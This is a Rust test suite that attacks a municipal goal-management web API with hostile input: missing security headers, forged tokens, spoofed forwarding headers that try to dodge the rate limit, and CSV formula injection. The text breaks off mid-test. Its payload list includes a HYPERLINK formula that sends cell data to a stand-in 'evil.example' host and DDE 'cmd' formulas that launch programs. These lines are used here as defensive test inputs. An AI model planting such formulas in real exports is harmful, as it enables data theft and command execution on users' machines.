//! Hostile input, end to end. Each test is a table of attacks of one class; every attack
//! is sent, its answer checked (the status, problem+json, no 5xx), and the database
//! compared with how it was before, so that a refused request is seen to have written
//! nothing. Each table prints `hostile[backend] class: N tried, N as expected`; run with
//! `--nocapture` to see the counts RELIABILITY.md quotes.
//!
//! Where a table walks the OpenAPI document (every operation with an id, every query
//! parameter), an operation added later is attacked without anyone adding it here.

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::rc::Rc;
use std::time::Duration;

use actix_web::body::{to_bytes, BoxBody};
use actix_web::dev::ServiceResponse;
use actix_web::http::header::{HeaderName, HeaderValue};
use actix_web::http::Method;
use actix_web::test;
use base64::Engine;
use diesel::prelude::*;
use futures_util::future::LocalBoxFuture;
use jsonwebtoken::{encode, Algorithm, EncodingKey, Header};
use p256::pkcs8::{EncodePrivateKey, EncodePublicKey, LineEnding};
use serde_json::{json, Value};

use crate::common::{Resp, TestApp};
use malstyrning::app::{build_app, AppState};
use malstyrning::auth::{TokenKeys, Verifier};
use malstyrning::networks::parse_networks;
use malstyrning::rate_limit::{RateLimit, RateLimitSettings};
use malstyrning::security::SecurityHeaders;
use malstyrning::store::Store;

const PROBLEM: &str = "application/problem+json";

// ---------------------------------------------------------------------------------------
// The tally every table keeps.

/// The attacks of one class: how many were tried and how many were refused or neutralised
/// as they must be; and the other checks of the table (controls that must go through, the
/// database unchanged), with what went wrong.
struct Table {
    class: &'static str,
    backend: &'static str,
    attacks: usize,
    attacks_failed: usize,
    checks: usize,
    failures: Vec<String>,
}

impl Table {
    fn new(app: &TestApp, class: &'static str) -> Table {
        Table {
            class,
            backend: app.backend,
            attacks: 0,
            attacks_failed: 0,
            checks: 0,
            failures: Vec::new(),
        }
    }

    /// An attack and whether it was refused or neutralised (stored verbatim, matched
    /// nothing, written as text) as it must be.
    fn attack(&mut self, name: impl std::fmt::Display, ok: bool, got: impl std::fmt::Display) {
        self.attacks += 1;
        if !ok {
            self.attacks_failed += 1;
            self.failures.push(format!("{name}: {got}"));
        }
    }

    /// Anything else the table checks: a control, an invariant.
    fn check(&mut self, name: impl std::fmt::Display, ok: bool, got: impl std::fmt::Display) {
        self.checks += 1;
        if !ok {
            self.failures.push(format!("{name}: {got}"));
        }
    }

    /// An attack that must be refused with one of `statuses`, as problem+json.
    fn refused(&mut self, name: impl std::fmt::Display, response: &Resp, statuses: &[u16]) {
        let ok = statuses.contains(&response.status) && is_problem(response);
        self.attack(name, ok, describe(response));
    }

    fn finish(self) {
        eprintln!(
            "hostile[{}] {}: {} attacks tried, {} refused or neutralised; {} other checks, {} passed",
            self.backend,
            self.class,
            self.attacks,
            self.attacks - self.attacks_failed,
            self.checks,
            self.checks + self.attacks_failed - self.failures.len(),
        );
        assert!(
            self.failures.is_empty(),
            "{} {} checks failed:\n{}",
            self.failures.len(),
            self.class,
            self.failures.join("\n")
        );
    }
}

fn is_problem(response: &Resp) -> bool {
    response.content_type() == PROBLEM
        && serde_json::from_slice::<Value>(&response.body)
            .is_ok_and(|b| b["status"] == response.status && b["type"].is_string())
}

fn describe(response: &Resp) -> String {
    let text = response.text();
    let text: String = text.chars().take(300).collect();
    format!("{} {} {text}", response.status, response.content_type())
}

// ---------------------------------------------------------------------------------------
// What the database holds, to show that a refused request wrote nothing.

/// Every table's row count (but the idempotency keys', which a refused request with a key
/// may leave) and every organization's export, as one text.
async fn fingerprint(app: &TestApp) -> String {
    use malstyrning::db::schema::*;
    app.store
        .run(|conn| {
            let mut text = String::new();
            macro_rules! count {
                ($($table:ident),*) => {$(
                    let n: i64 = $table::table.count().get_result(conn)?;
                    text.push_str(&format!("{} {n}\n", stringify!($table)));
                )*};
            }
            count!(
                organizations,
                units,
                plan_periods,
                reporting_periods,
                visions,
                perspectives,
                goals,
                department_goals,
                activities,
                contacts,
                indicators,
                measurements,
                follow_ups,
                audit_entries,
                revisions,
                changes,
                webhook_subscriptions,
                webhook_deliveries
            );
            let orgs: Vec<malstyrning::db::types::Id> = organizations::table
                .select(organizations::id)
                .order(organizations::id)
                .load(conn)?;
            for org in orgs {
                let rows = malstyrning::transfer::export::export(conn, &org, None)?;
                text.push_str(&serde_json::to_string(&rows).unwrap_or_default());
                text.push('\n');
            }
            Ok(text)
        })
        .await
        .expect("the database answers")
}

// ---------------------------------------------------------------------------------------
// Two organizations with one record of every kind.

/// An organization's admin token and the id of one record of each kind.
struct World {
    org: String,
    code: String,
    admin: String,
    ids: BTreeMap<&'static str, String>,
}

impl World {
    fn id(&self, kind: &str) -> &str {
        self.ids
            .get(kind)
            .unwrap_or_else(|| panic!("no {kind} in the world"))
    }
}

/// Mints a token for any organization, roles and subject (the test secret).
fn token_as(org: &str, roles: &[&str], subject: &str) -> String {
    let now = chrono::Utc::now().timestamp();
    TokenKeys::hs256(crate::common::SECRET)
        .issue(&json!({"sub": subject, "org": org, "roles": roles, "exp": now + 600, "iat": now}))
        .expect("a token")
}

async fn make(app: &TestApp, token: &str, path: &str, body: Value) -> String {
    let response = app.post(path, token, body).await;
    assert_eq!(response.status, 201, "{path}: {}", response.text());
    response.id()
}

/// Creates one record of every kind in `org` (which exists), external ids prefixed `tag`.
async fn build_world(app: &TestApp, org: &str, tag: &str) -> World {
    let admin = token_as(org, &["admin"], &format!("{tag}-admin"));
    let t = admin.as_str();
    let x = |name: &str| format!("{tag}-{name}");
    let mut ids = BTreeMap::new();
    ids.insert("organization", org.to_string());
    let council = make(app, t, "/api/v1/units", json!({"kind": "council", "name": "Kommunfullmäktige", "short_code": "KF", "external_id": x("council")})).await;
    let board = make(app, t, "/api/v1/units", json!({"kind": "board", "name": "Barn- och utbildningsnämnden", "short_code": "BUN", "external_id": x("board")})).await;
    let administration = make(app, t, "/api/v1/units", json!({"kind": "administration", "name": "Barn- och utbildningsförvaltningen", "parent_id": board, "external_id": x("administration")})).await;
    let team = make(app, t, "/api/v1/units", json!({"kind": "team", "name": "Arbetslag Blå", "parent_id": administration, "external_id": x("team")})).await;
    let plan_period = make(app, t, "/api/v1/plan-periods", json!({"name": "Mandatperioden 2011–2014", "start_date": "2011-01-01", "end_date": "2014-12-31", "external_id": x("period")})).await;
    let reporting_period = make(app, t, "/api/v1/reporting-periods", json!({"plan_period_id": plan_period, "kind": "annual_report", "name": "Årsredovisning 2011", "start_date": "2011-01-01", "end_date": "2011-12-31", "external_id": x("annual-2011")})).await;
    let vision = make(app, t, "/api/v1/visions", json!({"plan_period_id": plan_period, "vision": "Den mänskliga tillväxtkommunen.", "purpose": "Service med god kvalitet.", "external_id": x("vision")})).await;
    let perspective = make(app, t, "/api/v1/perspectives", json!({"plan_period_id": plan_period, "name": "Medborgar/kundmål", "focus": "external", "position": 1, "external_id": x("perspective")})).await;
    let goal = make(app, t, "/api/v1/goals", json!({"plan_period_id": plan_period, "perspective_id": perspective, "owner_unit_id": council, "number": 1,
        "title": "Invånarna ska känna sig trygga.", "state": "adopted", "decision_reference": "KF 2010-11-25 § 123", "decided_on": "2010-11-25", "decided_by_unit_id": council, "external_id": x("goal")})).await;
    let department_goal = make(app, t, "/api/v1/department-goals", json!({"goal_id": goal, "owner_unit_id": board, "number": 1, "title": "Alla elever ska känna sig trygga i skolan.", "external_id": x("department-goal")})).await;
    let indicator = make(app, t, "/api/v1/indicators", json!({"goal_id": goal, "owner_unit_id": board, "name": "Andel trygga elever", "unit_of_measure": "%", "direction": "higher_is_better", "source": "kolada", "kolada_kpi": "N00945", "external_id": x("indicator")})).await;
    let measurement = make(app, t, "/api/v1/measurements", json!({"indicator_id": indicator, "period": "2011", "value": 82.5, "external_id": x("measurement")})).await;
    let activity = make(app, t, "/api/v1/activities", json!({"team_id": team, "goal_id": goal, "title": "Trygghetsvandring", "responsible": "Arbetslagsledaren", "external_id": x("activity")})).await;
    let follow_up = make(app, t, "/api/v1/follow-ups", json!({"reporting_period_id": reporting_period, "goal_id": goal, "reporting_unit_id": council, "analysis": "Vi är på väg.", "external_id": x("follow-up")})).await;
    let contact = make(app, t, "/api/v1/contacts", json!({"role": "key_person", "name": "Nyckelperson", "unit_id": administration, "external_id": x("contact")})).await;
    let webhook = make(app, t, "/api/v1/webhook-subscriptions", json!({"url": "https://beslutsstod.example/hook", "event_types": ["goal.*"], "secret": "a-webhook-secret-of-enough-length-0123", "external_id": x("webhook")})).await;
    for (kind, id) in [
        ("council", council),
        ("board", board),
        ("administration", administration),
        ("team", team),
        ("plan_period", plan_period),
        ("reporting_period", reporting_period),
        ("vision", vision),
        ("perspective", perspective),
        ("goal", goal),
        ("department_goal", department_goal),
        ("indicator", indicator),
        ("measurement", measurement),
        ("activity", activity),
        ("follow_up", follow_up),
        ("contact", contact),
        ("webhook_subscription", webhook),
    ] {
        ids.insert(kind, id);
    }
    let code = app
        .get(&format!("/api/v1/organizations/{org}"), &admin)
        .await
        .expect(200)["municipality_code"]
        .as_str()
        .expect("a code")
        .to_string();
    World {
        org: org.to_string(),
        code,
        admin,
        ids,
    }
}

/// The victim (another organization) and the attacker (the test organization).
async fn two_worlds(app: &TestApp) -> (World, World) {
    let victim = app.another_organization().await;
    let victim = build_world(app, &victim, "a").await;
    let attacker = build_world(app, &app.org.clone(), "b").await;
    (victim, attacker)
}

/// The kind of record a path's `{id}` names, by its collection.
fn kind_of_collection(collection: &str) -> &'static str {
    match collection {
        "organizations" => "organization",
        "units" => "team",
        "plan-periods" => "plan_period",
        "reporting-periods" => "reporting_period",
        "visions" => "vision",
        "perspectives" => "perspective",
        "goals" => "goal",
        "department-goals" => "department_goal",
        "activities" => "activity",
        "indicators" => "indicator",
        "measurements" => "measurement",
        "follow-ups" => "follow_up",
        "contacts" => "contact",
        "webhook-subscriptions" => "webhook_subscription",
        other => panic!("a collection this test does not know: {other}"),
    }
}

/// The kind of record a reference field names.
fn kind_of_field(field: &str) -> Option<&'static str> {
    Some(match field {
        "parent_id" | "owner_unit_id" => "board",
        "decided_by_unit_id" | "reporting_unit_id" => "council",
        "unit_id" => "administration",
        "team_id" => "team",
        "plan_period_id" => "plan_period",
        "reporting_period_id" => "reporting_period",
        "perspective_id" => "perspective",
        "goal_id" => "goal",
        "department_goal_id" => "department_goal",
        "indicator_id" => "indicator",
        "entity_id" => "goal",
        "descendants_of" => "board",
        _ => return None,
    })
}

/// Fills a path template: `{id}` with `world`'s record of the path's kind,
/// `{municipality_code}` with `code`.
fn fill(template: &str, world: &World, code: &str) -> String {
    let collection = template
        .trim_start_matches("/api/v1/")
        .split('/')
        .next()
        .unwrap_or_default();
    let mut path = template.replace("{municipality_code}", code);
    if path.contains("{id}") {
        let kind = if collection == "public" {
            // The public view's ids: goals and reporting periods.
            if template.contains("/goals/") {
                "goal"
            } else {
                "reporting_period"
            }
        } else {
            kind_of_collection(collection)
        };
        path = path.replace("{id}", world.id(kind));
    }
    path
}

fn spec() -> Value {
    serde_json::to_value(malstyrning::app::openapi()).expect("the spec as JSON")
}

/// Every operation of the spec: (method, path template, operation).
fn operations(spec: &Value) -> Vec<(Method, String, Value)> {
    let mut all = Vec::new();
    for (path, item) in spec["paths"].as_object().expect("paths") {
        for (name, method) in [
            ("get", Method::GET),
            ("post", Method::POST),
            ("patch", Method::PATCH),
            ("delete", Method::DELETE),
        ] {
            if let Some(operation) = item.get(name) {
                all.push((method, path.clone(), operation.clone()));
            }
        }
    }
    all
}

fn pct(text: &str) -> String {
    form_urlencoded::byte_serialize(text.as_bytes()).collect()
}

fn b64(bytes: &[u8]) -> String {
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(bytes)
}

// ---------------------------------------------------------------------------------------
// 1. Security headers on every answer.

fn assert_headers(table: &mut Table, name: &str, response: &Resp, internal: bool) {
    let want = [
        ("x-content-type-options", "nosniff"),
        ("x-frame-options", "DENY"),
        ("referrer-policy", "no-referrer"),
    ];
    let mut missing: Vec<String> = want
        .iter()
        .filter(|(h, v)| response.header(h).as_deref() != Some(*v))
        .map(|(h, _)| h.to_string())
        .collect();
    let csp = response
        .header("content-security-policy")
        .unwrap_or_default();
    if !csp.contains("default-src 'none'") || !csp.contains("frame-ancestors 'none'") {
        missing.push(format!("content-security-policy ({csp})"));
    }
    if response.header("cross-origin-resource-policy").is_none() {
        missing.push("cross-origin-resource-policy".into());
    }
    if internal && response.header("cache-control").as_deref() != Some("no-store") {
        missing.push(format!(
            "cache-control ({:?})",
            response.header("cache-control")
        ));
    }
    if response.status >= 400 && !is_problem(response) {
        missing.push(format!("a problem+json body ({})", describe(response)));
    }
    if response.header("strict-transport-security").is_some() {
        missing.push("no strict-transport-security unless configured".into());
    }
    table.check(
        name,
        missing.is_empty(),
        format!("{}: {missing:?}", response.status),
    );
}

async fn security_headers_on_every_answer(app: TestApp) {
    let (_, mine) = two_worlds(&app).await;
    let admin = mine.admin.clone();
    let viewer = token_as(&mine.org, &["viewer"], "b-viewer");
    let goal = format!("/api/v1/goals/{}", mine.id("goal"));
    let mut table = Table::new(&app, "security headers");
    let get = |path: String, token: Option<String>| {
        let app = &app;
        async move {
            app.send(Method::GET, &path, token.as_deref(), None, &[])
                .await
        }
    };
    let json_body = |v: Value| Some(v.to_string().into_bytes());
    let internal: Vec<(&str, Resp)> = vec![
        (
            "200 list",
            get("/api/v1/units".into(), Some(admin.clone())).await,
        ),
        ("200 record", get(goal.clone(), Some(admin.clone())).await),
        (
            "201 create",
            app.post(
                "/api/v1/units",
                &admin,
                json!({"kind": "board", "name": "Kulturnämnden"}),
            )
            .await,
        ),
        ("204 delete", {
            let id = make(
                &app,
                &admin,
                "/api/v1/units",
                json!({"kind": "board", "name": "Tillfällig nämnd"}),
            )
            .await;
            app.delete(&format!("/api/v1/units/{id}"), &admin).await
        }),
        (
            "200 export csv",
            get("/api/v1/export?format=csv".into(), Some(admin.clone())).await,
        ),
        (
            "200 activity plan csv",
            get(
                format!("/api/v1/units/{}/activity-plan?format=csv", mine.id("team")),
                Some(admin.clone()),
            )
            .await,
        ),
        (
            "400 bad id",
            get("/api/v1/units/not-an-id".into(), Some(admin.clone())).await,
        ),
        (
            "400 bad query",
            get("/api/v1/units?limit=zero".into(), Some(admin.clone())).await,
        ),
        ("401 no token", get("/api/v1/units".into(), None).await),
        (
            "401 bad token",
            get("/api/v1/units".into(), Some("not.a.token".into())).await,
        ),
        (
            "403 viewer writes",
            app.post(
                "/api/v1/units",
                &viewer,
                json!({"kind": "board", "name": "X"}),
            )
            .await,
        ),
        (
            "404 no record",
            get(
                "/api/v1/goals/00000000-0000-7000-8000-000000000000".into(),
                Some(admin.clone()),
            )
            .await,
        ),
        (
            "404 no route",
            get("/api/v1/nothing-here".into(), Some(admin.clone())).await,
        ),
        ("404 no route, no token", get("/nothing".into(), None).await),
        (
            "405 wrong method",
            app.send(Method::PUT, "/api/v1/units", Some(&admin), None, &[])
                .await,
        ),
        (
            "409 conflict",
            app.post(
                "/api/v1/units",
                &admin,
                json!({"kind": "council", "name": "KF igen", "external_id": "b-council"}),
            )
            .await,
        ),
        (
            "412 stale If-Match",
            app.patch_if_match(&goal, &admin, "\"99\"", json!({"title": "Ny"}))
                .await,
        ),
        (
            "413 body too large",
            app.send(
                Method::POST,
                "/api/v1/units",
                Some(&admin),
                Some(vec![b' '; 65 * 1024]),
                &[],
            )
            .await,
        ),
        (
            "414 URI too long",
            get(
                format!("/api/v1/units?cursor={}", "a".repeat(9000)),
                Some(admin.clone()),
            )
            .await,
        ),
        (
            "415 not JSON",
            app.send(
                Method::POST,
                "/api/v1/units",
                Some(&admin),
                Some(b"kind=board".to_vec()),
                &[("Content-Type", "text/plain")],
            )
            .await,
        ),
        (
            "422 invalid",
            app.send(
                Method::POST,
                "/api/v1/units",
                Some(&admin),
                json_body(json!({"kind": "board", "name": " "})),
                &[],
            )
            .await,
        ),
        (
            "CORS preflight",
            app.send(
                Method::OPTIONS,
                "/api/v1/units",
                None,
                None,
                &[
                    ("Origin", "https://front.example"),
                    ("Access-Control-Request-Method", "POST"),
                ],
            )
            .await,
        ),
        (
            "CORS refused",
            app.send(
                Method::OPTIONS,
                "/api/v1/units",
                None,
                None,
                &[
                    ("Origin", "https://evil.example"),
                    ("Access-Control-Request-Method", "POST"),
                ],
            )
            .await,
        ),
    ];
    for (name, response) in &internal {
        assert_headers(&mut table, name, response, true);
    }
    // The answers anyone may have: no `no-store` forced on them.
    let public: Vec<(&str, Resp, &str)> = vec![
        (
            "health",
            get("/health/live".into(), None).await,
            "same-origin",
        ),
        (
            "openapi.json",
            get("/api/v1/openapi.json".into(), None).await,
            "same-origin",
        ),
        (
            "public view",
            get(format!("/api/v1/public/{}", mine.code), None).await,
            "cross-origin",
        ),
        (
            "public goals",
            get(format!("/api/v1/public/{}/goals", mine.code), None).await,
            "cross-origin",
        ),
        (
            "public 404",
            get("/api/v1/public/9999/goals".into(), None).await,
            "cross-origin",
        ),
        (
            "docs redirect",
            get("/docs".into(), None).await,
            "same-origin",
        ),
        ("docs page", get("/docs/".into(), None).await, "same-origin"),
        (
            "docs script",
            get("/docs/swagger-ui-bundle.js".into(), None).await,
            "same-origin",
        ),
        (
            "docs 404",
            get("/docs/no-such-file.js".into(), None).await,
            "same-origin",
        ),
    ];
    for (name, response, policy) in &public {
        assert_headers(&mut table, name, response, false);
        table.check(
            format!("{name}: Cross-Origin-Resource-Policy"),
            response.header("cross-origin-resource-policy").as_deref() == Some(*policy),
            format!("{:?}", response.header("cross-origin-resource-policy")),
        );
    }
    let page = &public[6].1;
    table.check("docs page is served", page.status == 200, page.status);
    let csp = page.header("content-security-policy").unwrap_or_default();
    table.check(
        "docs page: its own scripts and styles, nothing from elsewhere",
        csp.contains("script-src 'self'")
            && csp.contains("style-src 'self'")
            && !csp.contains("http"),
        &csp,
    );
    let public_goals = &public[3].1;
    table.check(
        "public answers are not forced to no-store",
        public_goals.header("cache-control").as_deref() != Some("no-store"),
        format!("{:?}", public_goals.header("cache-control")),
    );
    table.finish();

    // HSTS only when configured.
    let hsts = SecurityHeaders::new(Some("max-age=31536000; includeSubDomains")).expect("HSTS");
    let call = custom_app(&app.store, RateLimit::off(), hsts).await;
    for path in ["/health/live", "/api/v1/units", "/docs/"] {
        let response = send(&call, test::TestRequest::get().uri(path)).await;
        assert_eq!(
            response.header("strict-transport-security").as_deref(),
            Some("max-age=31536000; includeSubDomains"),
            "{path}"
        );
    }
}

// ---------------------------------------------------------------------------------------
// 2. Rate limiting per caller and per address.

type Call = Rc<dyn Fn(actix_http::Request) -> LocalBoxFuture<'static, ServiceResponse<BoxBody>>>;

/// The app over this store with a rate limit and security headers of the test's choosing.
async fn custom_app(
    store: &Store,
    rate_limit: RateLimit,
    security_headers: SecurityHeaders,
) -> Call {
    let state = AppState {
        store: store.clone(),
        verifier: Verifier::hs256(crate::common::SECRET),
        body_limit: 64 * 1024,
        cors_origins: vec!["https://front.example".into()],
        idempotency_key_ttl: chrono::Duration::hours(24),
        import_limit: 8 * 1024 * 1024,
        rate_limit,
        security_headers,
        metrics: Default::default(),
    };
    let service = Rc::new(test::init_service(build_app(state)).await);
    Rc::new(move |req| {
        let service = service.clone();
        Box::pin(async move {
            test::call_service(&*service, req)
                .await
                .map_into_boxed_body()
        })
    })
}

async fn send(call: &Call, req: test::TestRequest) -> Resp {
    let response = call(req.to_request()).await;
    let status = response.status().as_u16();
    let headers = response.headers().clone();
    let body = to_bytes(response.into_body())
        .await
        .map(|b| b.to_vec())
        .unwrap_or_default();
    Resp {
        status,
        headers,
        body,
    }
}

fn from(ip: &str) -> test::TestRequest {
    test::TestRequest::get()
        .uri("/api/v1/units")
        .peer_addr(SocketAddr::new(ip.parse().expect("an address"), 40000))
}

fn bearer(req: test::TestRequest, token: &str) -> test::TestRequest {
    req.insert_header(("Authorization", format!("Bearer {token}")))
}

async fn rate_limit_per_caller_and_address(app: TestApp) {
    let mut table = Table::new(&app, "rate limit");
    let limit = |burst: u32, trusted: &str| {
        RateLimit::new(RateLimitSettings {
            per_minute: 60,
            burst,
            trusted_proxies: parse_networks(trusted).expect("networks"),
        })
    };
    let call = custom_app(&app.store, limit(3, ""), SecurityHeaders::default()).await;
    let alice = token_as(&app.org, &["admin"], "alice");
    let units_before = fingerprint(&app).await;

    // A caller: three at once, then 429 with Retry-After, as problem+json.
    for n in 1..=3 {
        let r = send(&call, bearer(from("10.0.0.1"), &alice)).await;
        table.check(
            format!("alice #{n} gets through"),
            r.status == 200,
            describe(&r),
        );
    }
    let r = send(&call, bearer(from("10.0.0.1"), &alice)).await;
    table.refused("alice #4", &r, &[429]);
    let retry = r.header("retry-after").and_then(|v| v.parse::<u64>().ok());
    table.check(
        "Retry-After is whole seconds, at least 1",
        retry.is_some_and(|s| (1..=60).contains(&s)),
        format!("{retry:?}"),
    );
    table.check(
        "a 429 has the security headers",
        r.header("x-content-type-options").is_some()
            && r.header("cache-control").as_deref() == Some("no-store"),
        format!("{:?}", r.headers),
    );
    // From another address, the same caller is still over: the key is the caller.
    let r = send(&call, bearer(from("10.9.9.9"), &alice)).await;
    table.refused("alice from another address", &r, &[429]);
    // Writes over the limit write nothing.
    let r = send(
        &call,
        bearer(
            test::TestRequest::post()
                .uri("/api/v1/units")
                .peer_addr("10.0.0.1:1".parse().expect("an address"))
                .insert_header(("Content-Type", "application/json"))
                .set_payload(json!({"kind": "board", "name": "För många"}).to_string()),
            &alice,
        ),
    )
    .await;
    table.refused("alice writes over the limit", &r, &[429]);
    table.check(
        "nothing was written",
        fingerprint(&app).await == units_before,
        "the database changed",
    );

    // Another subject, and the same subject in another organization, have buckets of their own.
    let bob = token_as(&app.org, &["admin"], "bob");
    let r = send(&call, bearer(from("10.0.0.1"), &bob)).await;
    table.check(
        "bob from alice's address gets through",
        r.status == 200,
        describe(&r),
    );
    let other_org = token_as(&uuid::Uuid::new_v4().to_string(), &["admin"], "alice");
    let r = send(&call, bearer(from("10.0.0.1"), &other_org)).await;
    table.check(
        "alice of another organization gets through",
        r.status == 200,
        describe(&r),
    );

    // Without a token, by address; forged tokens count against the address too, so that
    // making tokens up buys no fresh bucket, nor drains a real caller's.
    for n in 1..=3 {
        let r = send(&call, from("10.0.0.2")).await;
        table.check(
            format!("anonymous #{n} is 401"),
            r.status == 401,
            describe(&r),
        );
    }
    table.refused("anonymous #4", &send(&call, from("10.0.0.2")).await, &[429]);
    let forged = format!(
        "{}.{}.{}",
        b64(br#"{"alg":"HS256","typ":"JWT"}"#),
        b64(
            json!({"sub": "carol", "org": app.org, "exp": 4_000_000_000u64})
                .to_string()
                .as_bytes()
        ),
        b64(b"forged")
    );
    table.refused(
        "a forged token from the same address",
        &send(&call, bearer(from("10.0.0.2"), &forged)).await,
        &[429],
    );
    for n in 1..=3 {
        let forged = token_as(&app.org, &["admin"], "alice").replace('.', ".x");
        let r = send(&call, bearer(from("10.0.0.3"), &forged)).await;
        table.check(
            format!("forged token #{n} from a new address is 401"),
            r.status == 401,
            describe(&r),
        );
    }
    table.refused(
        "forged token #4 from that address",
        &send(&call, bearer(from("10.0.0.3"), &forged)).await,
        &[429],
    );
    let carol = token_as(&app.org, &["viewer"], "carol");
    let r = send(&call, bearer(from("10.0.0.3"), &carol)).await;
    table.check(
        "the real carol is not drained by forgeries",
        r.status == 200,
        describe(&r),
    );
    let r = send(&call, from("10.0.0.4")).await;
    table.check(
        "another address gets through",
        r.status == 401,
        describe(&r),
    );
    // IPv6: one /64 is one client.
    for n in 1..=3 {
        send(&call, from(&format!("2001:db8:1:2::{n}"))).await;
    }
    table.refused(
        "a fourth address of the same /64",
        &send(&call, from("2001:db8:1:2::ff")).await,
        &[429],
    );
    let r = send(&call, from("2001:db8:1:3::1")).await;
    table.check("another /64 gets through", r.status == 401, describe(&r));

    // X-Forwarded-For is ignored unless the peer is a trusted proxy.
    for n in 1..=3 {
        let req = from("10.0.0.5").insert_header(("X-Forwarded-For", format!("192.0.2.{n}")));
        send(&call, req).await;
    }
    let req = from("10.0.0.5").insert_header(("X-Forwarded-For", "192.0.2.99"));
    table.refused(
        "X-Forwarded-For from an untrusted peer",
        &send(&call, req).await,
        &[429],
    );

    // Behind a trusted proxy, the client it names is the key; what the client itself
    // wrote into the header (left of the proxy's entry) is not.
    let proxied = custom_app(
        &app.store,
        limit(3, "10.0.0.9, 10.1.0.0/16"),
        SecurityHeaders::default(),
    )
    .await;
    let via = |chain: &str| from("10.0.0.9").insert_header(("X-Forwarded-For", chain.to_string()));
    for n in 1..=3 {
        let r = send(&proxied, via(&format!("198.51.100.{n}, 203.0.113.7"))).await;
        table.check(
            format!("proxied client #{n}"),
            r.status == 401,
            describe(&r),
        );
    }
    table.refused(
        "proxied client #4, whatever it claims",
        &send(&proxied, via("198.51.100.200, 203.0.113.7")).await,
        &[429],
    );
    table.refused(
        "through two trusted proxies",
        &send(&proxied, via("203.0.113.7, 10.1.2.3")).await,
        &[429],
    );
    let r = send(&proxied, via("203.0.113.8")).await;
    table.check("another proxied client", r.status == 401, describe(&r));
    let r = send(
        &proxied,
        from("10.0.0.9").insert_header(("X-Forwarded-For", "not-an-address")),
    )
    .await;
    table.check(
        "a proxy's header that names no address: the proxy is the client",
        r.status == 401,
        describe(&r),
    );

    // Probes are never limited; a limit of 0 is none.
    for _ in 0..10 {
        let r = send(
            &call,
            test::TestRequest::get()
                .uri("/health/live")
                .peer_addr("10.0.0.2:1".parse().expect("an address")),
        )
        .await;
        table.check("health is never limited", r.status == 200, describe(&r));
    }
    let off = custom_app(&app.store, limit(0, ""), SecurityHeaders::default()).await;
    for _ in 0..10 {
        let r = send(&off, from("10.0.0.2")).await;
        table.check(
            "RATE_LIMIT_PER_MINUTE=0 limits nothing",
            r.status == 401,
            describe(&r),
        );
    }

    // The spec documents the 429 with Retry-After on every limited operation.
    for (method, path, operation) in operations(&spec()) {
        let documented = &operation["responses"]["429"];
        let limited = !path.starts_with("/health/");
        let ok = if limited {
            documented["headers"]["Retry-After"].is_object()
                && documented["content"][PROBLEM].is_object()
        } else {
            documented.is_null()
        };
        table.check(format!("{method} {path} documents 429"), ok, documented);
    }
    table.finish();
}

// ---------------------------------------------------------------------------------------
// 3. CSV injection.

const FORMULAS: [&str; 9] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klicka\")",
    "=cmd|' /C calc'!A0",
    "+46 370 377 000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\tTabb först",
    "\rVagnretur först",
    "'=redan citerad",
    "''+två citattecken",
];

async fn csv_injection_is_neutralised_and_round_trips(app: TestApp) {
    let mut table = Table::new(&app, "CSV injection");
    let admin = app.admin();
    let m = app.model().await;
    // What the service stored (it trims the white space around a text).
    let mut stored = Vec::new();
    for (n, text) in FORMULAS.iter().enumerate() {
        let id = make(
            &app,
            &admin,
            "/api/v1/activities",
            json!({"team_id": m.team, "goal_id": m.goal, "title": text,
            "responsible": text, "description": text, "external_id": format!("{text}#{n}")}),
        )
        .await;
        let activity = app
            .get(&format!("/api/v1/activities/{id}"), &admin)
            .await
            .json();
        stored.push(activity["title"].as_str().unwrap_or_default().to_string());
        make(&app, &admin, "/api/v1/units", json!({"kind": "team", "name": text, "short_code": format!("T{n}"), "parent_id": m.administration})).await;
    }
    // A negative number stays a number.
    let indicator = make(
        &app,
        &admin,
        "/api/v1/indicators",
        json!({"goal_id": m.goal, "name": "Årets resultat", "unit_of_measure": "%",
        "direction": "higher_is_better", "baseline_value": -2.5, "baseline_period": "2010"}),
    )
    .await;
    make(
        &app,
        &admin,
        "/api/v1/measurements",
        json!({"indicator_id": indicator, "period": "2011", "value": -5}),
    )
    .await;

    let csv_text = app.get("/api/v1/export?format=csv", &admin).await;
    assert_eq!(csv_text.status, 200, "{}", csv_text.text());
    // The command line writes the same rows through the same writer.
    let org: malstyrning::db::types::Id = app.org.parse().expect("an id");
    let cli = app
        .store
        .run(move |conn| {
            let rows = malstyrning::transfer::export::export(conn, &org, None)?;
            let mut out = Vec::new();
            malstyrning::transfer::export::write(
                &rows,
                malstyrning::transfer::Format::Csv,
                &mut out,
            )?;
            Ok(out)
        })
        .await
        .expect("an export");
    table.check(
        "the command line writes what the endpoint writes",
        cli == csv_text.body,
        "they differ",
    );
    let plan = app
        .get(
            &format!("/api/v1/units/{}/activity-plan?format=csv", m.team),
            &admin,
        )
        .await;
    for (what, bytes, delimiter) in [
        ("export", &csv_text.body, b','),
        ("activity plan", &plan.body, b';'),
    ] {
        let text = String::from_utf8_lossy(bytes)
            .trim_start_matches('\u{feff}')
            .to_string();
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(delimiter)
            .has_headers(true)
            .flexible(true)
            .from_reader(text.as_bytes());
        let headers = reader.headers().expect("a header").clone();
        for record in reader.records() {
            let record = record.expect("a CSV record");
            for (column, cell) in headers.iter().zip(record.iter()) {
                let numeric = [
                    "value",
                    "baseline_value",
                    "number",
                    "position",
                    "weight",
                    "yellow_tolerance",
                    "value_women",
                    "value_men",
                ]
                .contains(&column);
                let dangerous = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
                if numeric && cell.starts_with('-') {
                    table.check(
                        format!("{what}: negative number in `{column}` stays a number"),
                        cell.parse::<f64>().is_ok(),
                        cell,
                    );
                } else if dangerous
                    || stored
                        .iter()
                        .any(|f| cell.contains(f.trim_start_matches('\'')))
                {
                    table.attack(
                        format!("{what}: `{column}` cell {cell:?} cannot run"),
                        !dangerous,
                        cell,
                    );
                }
            }
        }
    }

    // Importing the export gives back exactly the text that was exported.
    let copy = app.another_organization_named("Kopian", "0684").await;
    let copy_admin = token_as(&copy, &["admin"], "copy-admin");
    let imported = app
        .send(
            Method::POST,
            "/api/v1/import",
            Some(&copy_admin),
            Some(csv_text.body.clone()),
            &[("Content-Type", "text/csv")],
        )
        .await;
